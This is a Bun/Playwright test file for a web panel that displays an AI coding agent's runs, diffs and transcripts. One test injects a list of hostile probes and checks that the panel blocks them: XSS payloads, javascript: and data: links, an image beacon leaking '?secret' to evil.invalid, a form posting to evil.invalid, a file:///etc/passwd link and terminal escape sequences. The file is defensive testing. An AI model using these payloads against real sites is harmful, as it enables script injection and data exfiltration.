import { expect, test } from "bun:test";
import { writeFileSync } from "node:fs";

import { join } from "node:path";
import AxeBuilder from "@axe-core/playwright";
import type { Page } from "playwright-core";
import type { Task } from "../../src/contract/task.ts";
import { makeRepo } from "../support/repo.ts";
import { scratch } from "../support/scratch.ts";
import { TestServer } from "../support/server.ts";
import {
  drift,
  ended,
  firstRow,
  olderPage,
  openPanel,
  said,
  send,
  watchHosts,
  wheel,
} from "./support/panel.ts";
import { setStage } from "./support/stage.ts";

const stage = setStage({ "README.md": "# Test\n", "src/a.ts": "const a = 1;\nconst b = 2;\n" });

const flag = (name: string) => join(scratch("flag"), name);
const open = (task: Task, query = "") => openPanel(stage.browser, stage.server, task.id, query);

async function finished(script: string): Promise<Task> {
  const { task, run } = await stage.server.client.startFake(stage.repo, script);
  await stage.server.client.ended(task.id, run.id);
  return task;
}

test("shows the sample as it happens, then takes a follow-up in the same conversation", async () => {
  const { body } = await stage.server.client.post<{ task: Task }>("/sample");
  const { page, complaints, close } = await open(body.task);
  await page.getByRole("button", { name: /^Stop/ }).waitFor();
  await ended(page, "Finished").waitFor();
  expect(await page.locator(".strip").textContent()).toContain("3 of 3");
  expect((await said(page)).at(-1)).toContain("The test passes.");
  expect(await page.locator(".tool", { hasText: "Edited" }).count()).toBe(2);
  await page.locator(".diff .a", { hasText: "Greets someone by name" }).waitFor();
  // Code is coloured by a worker of our own, under the page's policy.
  await page.locator(".diff .k", { hasText: "export" }).first().waitFor();
  expect(await page.getByRole("button", { name: /^Stop/ }).count()).toBe(0);

  await send(page, "Now greet in French");
  await ended(page, "Finished", 2).waitFor();
  await page.locator(".tabs", { hasText: "Run 2 of 2" }).waitFor();
  expect((await said(page)).at(-1)).toContain("I am the sample agent");
  expect(await page.locator(".composer textarea").inputValue()).toBe("");
  expect(complaints).toEqual([]);
  await close();
});

test("keeps what is typed over a reload, and queues it while the agent works", async () => {
  const go = flag("go");
  const { task, run } = await stage.server.client.startFake(stage.repo, `say: first\nuntil: ${go}`);
  await stage.server.client.until(task.id, (now) => now.column === "running");
  const { page, complaints, close } = await open(task);
  await page.locator(".composer textarea").fill("say: half a thought");
  await page.reload();
  const field = page.locator(".composer textarea");
  await field.waitFor();
  expect(await field.inputValue()).toBe("say: half a thought");
  await field.press("Enter");
  await page.locator(".queue li", { hasText: "half a thought" }).waitFor();
  await send(page, "say: second thought");
  await page.locator(".queue li").nth(1).waitFor();
  await page
    .locator(".queue li", { hasText: "half" })
    .getByRole("button", { name: "Remove from the queue" })
    .click();
  await page.waitForFunction(() => document.querySelectorAll(".queue li").length === 1);
  writeFileSync(go, "");
  await ended(page, "Finished", 2).waitFor();
  expect(await said(page)).toEqual(["first", "second thought"]);
  expect(await page.locator(".queue").count()).toBe(0);
  expect((await stage.server.client.runs(task.id)).map((one) => one.id)).toContain(run.id);
  expect(complaints).toEqual([]);
  await close();
});

test("says which mode holds now and which comes, and picks another", async () => {
  const go = flag("go");
  const { task, run } = await stage.server.client.startFake(
    stage.repo,
    `say: first\nuntil: ${go}`,
    {
      agent: "claude-code",
      mode: "ask",
    },
  );
  await stage.server.client.until(task.id, (now) => now.column === "running");
  const { page, complaints, close } = await open(task);
  // Until the agent's own words are there it is named by its id.
  await page.getByRole("button", { name: "Mode: Ask", exact: true }).click();
  const menu = page.getByRole("menu", { name: "Mode" });
  await menu.getByText("takes its mode with each message").waitFor();
  await menu.getByRole("menuitem", { name: /^Bypass/ }).click();
  await page.getByRole("button", { name: "Mode: Ask, Bypass from the next message" }).waitFor();
  expect(await stage.server.client.task(task.id)).toMatchObject({
    modeNow: "ask",
    modeNext: "bypass",
  });
  writeFileSync(go, "");
  await stage.server.client.ended(task.id, run.id);
  await send(page, "say: second");
  await page.getByRole("button", { name: "Mode: Bypass", exact: true }).waitFor();
  expect(complaints).toEqual([]);
  await close();
});

test("one key stops the agent, also while typing; the message stays", async () => {
  const { task } = await stage.server.client.startFake(stage.repo, `until: ${flag("never")}`);
  await stage.server.client.until(task.id, (now) => now.column === "running");
  const { page, close } = await open(task);
  await page.locator(".composer textarea").fill("and then");
  await page.keyboard.press("Control+.");
  await ended(page, "Stopped").waitFor();
  expect(await page.locator(".composer textarea").inputValue()).toBe("and then");
  await page.locator('[role="status"].sr', { hasText: "stopped" }).waitFor({ state: "attached" });
  await close();
});

test("says why a run failed, and tries again", async () => {
  const task = await finished("say: x\nfail: the model said no");
  const { page, close } = await open(task);
  const row = ended(page, "Failed");
  await row.getByText("the model said no").waitFor();
  await page.getByRole("button", { name: "Retry" }).click();
  await ended(page, "Failed", 2).waitFor();
  await close();
});

test("shows the changes file by file, live, and remembers where it was", async () => {
  const go = flag("go");
  const lines = Array.from({ length: 400 }, (_, n) => `const n${n} = ${n};`).join("\\n");
  const { task, run } = await stage.server.client.startFake(
    stage.repo,
    `write: src/a.ts | const a = 2;\\nconst b = 2;\nwrite: big.ts | ${lines}\nuntil: ${go}\nwrite: late.txt | x`,
  );
  await stage.server.client.until(task.id, (now) => now.column === "running");
  const { page, complaints, close } = await open(task, "&tab=changes");
  const files = page.locator(".files .f1");
  await files.nth(1).waitFor();
  expect(await files.allTextContents()).toEqual([
    expect.stringContaining("big.ts"),
    expect.stringContaining("a.ts"),
  ]);
  await page.locator(".diff-list .ln", { hasText: "const n0 = 0" }).waitFor();
  expect(await page.locator(".diff-list .ln").count()).toBeLessThan(120);
  await page.locator(".diff-list").hover();
  await page.mouse.wheel(0, 3000);
  await page.locator(".diff-list .ln", { hasText: "const n150 = 150" }).waitFor();
  await page.locator(".panel h2").click();
  await page.keyboard.press("]");
  await page.locator(".diff-list .d mark", { hasText: "1" }).waitFor();
  await page.keyboard.press("[");
  await page.locator(".diff-list .ln", { hasText: "const n150 = 150" }).waitFor();
  writeFileSync(go, "");
  await stage.server.client.ended(task.id, run.id);
  await files.nth(2).waitFor();
  await page.locator(".diff-list .ln", { hasText: "const n150 = 150" }).waitFor();
  await page.getByText("Split", { exact: true }).click();
  await page.locator(".diff.two").first().waitFor();
  expect(complaints).toEqual([]);
  await close();
});

test("goes on over kill -9 of the server: no gap, no repeat, no reload", async () => {
  const own = await TestServer.start();
  const second = flag("second");
  const third = flag("third");
  let next: TestServer | null = null;
  try {
    await own.client.trust(stage.repo);
    const { task, run } = await own.client.startFake(
      stage.repo,
      `say: one\nsay: two\nuntil: ${second}\nsay: three\nuntil: ${third}\nsay: four`,
    );
    await own.client.until(task.id, (now) => now.column === "running");
    const { page, close } = await openPanel(stage.browser, own, task.id);
    await page.locator(".said", { hasText: "two" }).waitFor();
    await page.evaluate(() => {
      (globalThis as { kept?: boolean }).kept = true;
    });
    await own.kill();
    writeFileSync(second, "");
    await page.locator(".composer textarea").fill("typed while it was away");
    next = await own.restart({ env: { AGETOR_API_PORT: String(own.port) } });
    await page.locator(".said", { hasText: "three" }).waitFor();
    writeFileSync(third, "");
    await ended(page, "Finished").waitFor();
    await next.client.ended(task.id, run.id);
    expect(await said(page)).toEqual(["one", "two", "three", "four"]);
    expect(await page.locator(".quote").count()).toBe(1);
    expect(await page.evaluate(() => (globalThis as { kept?: boolean }).kept)).toBe(true);
    expect(await page.locator(".composer textarea").inputValue()).toBe("typed while it was away");
    await close();
  } finally {
    await next?.dispose();
    await own.dispose();
  }
});

const probes = [
  "<script>window.__pwn=1</script>",
  "<img src=x onerror=window.__pwn=1>",
  "<svg onload=window.__pwn=1>",
  "<iframe src=https://evil.invalid></iframe>",
  "[click](javascript:window.__pwn=1)",
  "[data](data:text/html,<script>window.__pwn=1</script>)",
  "![beacon](https://evil.invalid/x.png?secret)",
  "![x](file:///etc/passwd)",
  "<style>*{display:none}</style>",
  "<form action=https://evil.invalid><button>go</button></form>",
  "<https://ok.example/path>",
  "```html\\n<script>window.__pwn=1</script>\\n```",
];

const rules = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"];

async function violations(page: Page): Promise<string[]> {
  const found = await new AxeBuilder({ page }).include(".panel").withTags(rules).analyze();
  return found.violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).join()}`);
}

test("everything in it can be used by everyone, in both themes", async () => {
  const task = await finished(
    [
      "think: hm",
      "todos: *one; two",
      "read: README.md",
      "write: src/a.ts | const a = 9;",
      "run: printf '\\033[31mred\\033[0m \\033[2mdim\\033[0m'; exit 1",
      'emit: {"t":"mystery","deep":{"list":[1,2]}}',
      "say: # Title\\n\\nA [link](https://a.example), `code` and\\n\\n```ts\\nconst a = 1; // why\\n```\\n\\n- [x] done\\n\\n| a | b |\\n| - | - |\\n| 1 | 2 |",
      "fail: no",
    ].join("\n"),
  );
  for (const colorScheme of ["dark", "light"] as const) {
    const { page, close } = await openPanel(stage.browser, stage.server, task.id, "", {
      colorScheme,
    });
    await ended(page, "Failed").waitFor();
    await page.locator(".k").first().waitFor();
    expect(await violations(page)).toEqual([]);
    await page.locator(".seg label", { hasText: "Verbose" }).click();
    expect(await violations(page)).toEqual([]);
    await page.getByRole("tab", { name: /Changes/ }).click();
    await page.locator(".diff-list .ln").first().waitFor();
    expect(await violations(page)).toEqual([]);
    const small = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>(".panel :is(button, a, textarea)")]
        .filter((element) => element.closest(".md") === null)
        .map((element) => [element.textContent ?? "", element.getBoundingClientRect()] as const)
        .filter(([, { width, height }]) => height > 0 && (width < 24 || height < 24))
        .map(([text, { width, height }]) => `${text} ${width}×${height}`),
    );
    expect(small).toEqual([]);
    await page.locator(".seg label", { hasText: "Unified" }).waitFor();
    await page.getByRole("tab", { name: "Transcript" }).click();
    await page.locator(".seg label", { hasText: "Normal" }).click();
    await close();
  }
});

test("hostile text of an agent does nothing and reaches nobody", async () => {
  const script = [
    ...probes.map((probe) => `say: ${probe}`),
    `say: ${">".repeat(5000)} deep`,
    `run: printf '\\033]8;;javascript:alert(1)\\033\\\\link\\033]52;c;eA==\\007'; exit 3`,
    "think: <img src=x onerror=window.__pwn=1>",
    `write: <img src=x onerror=window.__pwn=1>.txt | <script>window.__pwn=1</script>`,
    "fail: <img src=x onerror=window.__pwn=1>",
  ].join("\n");
  const task = await finished(script);
  const { page, complaints, close } = await open(task);
  const hosts = watchHosts(page);
  await ended(page, "Failed").waitFor();
  await page.locator(".seg label", { hasText: "Verbose" }).click();
  for (let step = 0; step < 8; step += 1) {
    await wheel(page, -700);
    const bad = await page.evaluate(() => [
      document.querySelectorAll(
        ".panel .row :is(img, script, iframe, style, form, object, embed, base, meta, link)",
      ).length,
      [...document.querySelectorAll(".panel a")].filter(
        (anchor) => !/^(https?:|mailto:)/.test((anchor as HTMLAnchorElement).href),
      ).length,
      [...document.querySelectorAll(".panel a")].filter(
        (anchor) => !(anchor as HTMLAnchorElement).rel.includes("noopener"),
      ).length,
    ]);
    expect(bad).toEqual([0, 0, 0]);
  }
  await page.getByRole("tab", { name: /Changes/ }).click();
  await page.locator(".diff-list .ln").first().waitFor();
  expect(await page.evaluate(() => (globalThis as { __pwn?: number }).__pwn)).toBeUndefined();
  expect([...hosts].filter((host) => host !== new URL(stage.server.client.base).host)).toEqual([]);
  expect(complaints).toEqual([]);
  await close();
});

test("a reader who scrolled up stays where they are, to the pixel", async () => {
  const go = flag("go");
  const many = (from: number, count: number) =>
    Array.from({ length: count }, (_, n) => `say: line ${from + n} ${"word ".repeat(n % 40)}`);
  const { task, run } = await stage.server.client.startFake(
    stage.repo,
    [...many(0, 900), `until: ${go}`, ...many(900, 400)].join("\n"),
  );
  await stage.server.client.until(task.id, (now) => now.column === "running");
  const { page, complaints, close } = await open(task);
  await page.locator(".row", { hasText: "line 899 " }).waitFor();
  await wheel(page, -2500);
  await page.getByRole("button", { name: /Jump to latest/ }).waitFor();
  const before = await firstRow(page);
  writeFileSync(go, "");
  await stage.server.client.ended(task.id, run.id);
  await page.locator(".pill", { hasText: "402 new" }).waitFor();
  expect(await drift(page, before)).toBeLessThan(1);

  // Older pages come in front of what is read, and do not move it.
  expect(await olderPage(page)).toBeLessThan(1);
  expect(await olderPage(page)).toBeLessThan(1);
  await page.getByLabel("Transcript, scrolls").press("Home");
  await page.locator(".quote", { hasText: "say: line 0" }).waitFor();

  await page.getByLabel("Transcript, scrolls").press("End");
  await page.locator(".row", { hasText: "line 1299 " }).waitFor();
  await page.getByRole("button", { name: /Jump to latest/ }).waitFor({ state: "hidden" });
  expect(complaints).toEqual([]);
  await close();
});

test("a copy is what is seen, without what is hidden in it", async () => {
  const task = await finished("say: ```sh\\necho a\u202E\u0007b\\n```");
  const { page, close } = await openPanel(stage.browser, stage.server, task.id, "", {
    permissions: ["clipboard-read", "clipboard-write"],
  });
  await page.locator(".code").hover();
  await page.getByRole("button", { name: "Copy code" }).click();
  await page.getByRole("button", { name: "Copied" }).waitFor();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("echo ab");
  await page.getByRole("button", { name: "More" }).click();
  await page.getByText("Copy transcript as Markdown").click();
  await page.locator('[role="status"].sr', { hasText: "Transcript copied" }).waitFor({
    state: "attached",
  });
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain(
    "```sh\necho ab\n```",
  );
  await close();
});

test("a task that has not run shows its prompt, and asks for trust before it starts", async () => {
  const fresh = makeRepo();
  const { body } = await stage.server.client.post<{ task: Task }>("/tasks", {
    prompt: "say: trusted now",
    workdir: fresh,
    agent: "fake",
  });
  const { page, complaints, close } = await open(body.task);
  await page.locator(".quote", { hasText: "say: trusted now" }).waitFor();
  await page.locator(".wrap").getByRole("button", { name: "Start" }).click();
  await page.locator(".sheet").waitFor();
  await page.getByRole("button", { name: /Trust/ }).click();
  await ended(page, "Finished").waitFor();
  expect(await said(page)).toEqual(["trusted now"]);
  expect(complaints).toEqual([]);
  await close();
});
